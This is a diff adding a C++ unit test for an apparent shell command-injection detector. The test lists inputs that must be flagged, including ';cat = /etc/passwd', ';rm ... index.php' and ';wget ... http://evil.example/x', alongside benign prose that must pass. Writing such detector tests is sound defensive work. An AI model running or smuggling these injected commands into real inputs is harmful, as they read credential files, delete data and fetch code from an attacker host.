@@ -569,6 +569,20 @@ TEST(Shell, ProseOfDictionariesAndLetters) {
     EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
 }
 
+// Words and signs around what a command reads take nothing from it.
+TEST(Shell, FilesAmongWords) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  for (const std::string_view text :
+       {";cat = /etc/passwd", "x; cat = /etc/passwd", ";cat a b c d e /etc/hosts",
+        "x; cat a b c d e config.php", ";rm these old files now please index.php",
+        ";wget this is a nice day http://evil.example/x", ";head of all the many files in /etc/hosts"})
+    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
+  for (const std::string_view text :
+       {"the name; type = a.b", "see the list; find it at https://docs.example/list of all the names",
+        "we were late; head of the file in /etc/hosts is the one that they want"})
+    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
+}
+
 // Options by which a client runs a program deny, others of its options do not.
 TEST(Shell, SettingsOfClients) {
   const Analyzer& analyzer = analyzer_named("cmd");
